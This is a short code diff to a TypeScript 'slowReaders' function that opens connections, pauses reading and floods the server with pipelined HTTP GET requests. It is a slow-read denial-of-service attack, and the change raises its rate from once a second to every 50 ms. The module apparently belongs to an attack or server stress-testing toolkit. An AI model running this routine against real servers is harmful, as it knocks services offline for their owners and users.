@@ -1,10 +1,10 @@
 import { type AttackOptions, onEachConnection, repeat, write } from "./attack.ts";
 
-/** Sends a request per second and reads no answer. */
+/** Sends a request every 50 ms and reads no answer. */
 export function slowReaders(options: AttackOptions): Promise<void> {
   const { path = "/" } = options;
   return onEachConnection(options, (socket) => {
     socket.pause();
-    return repeat(socket, 1000, () => write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`));
+    return repeat(socket, 50, () => write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`));
   });
 }
